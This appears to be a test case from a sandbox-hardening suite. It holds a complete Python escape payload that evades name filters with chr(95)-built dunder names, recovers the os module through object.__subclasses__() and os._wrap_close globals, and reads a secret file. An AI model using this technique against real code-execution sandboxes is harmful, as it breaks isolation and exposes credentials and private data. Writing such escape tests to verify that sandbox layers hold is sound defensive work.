# class: denied builtins come back
# technique: the root class by a method of the metaclass, its subclasses by a made name
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
import operator
u = chr(95) * 2
root = int.mro()[-1]
classes = operator.methodcaller(u + "sub" + "classes" + u)(root)
close = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0]
g = operator.attrgetter(u + "init" + u + "." + u + "glo" + "bals" + u)(close)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
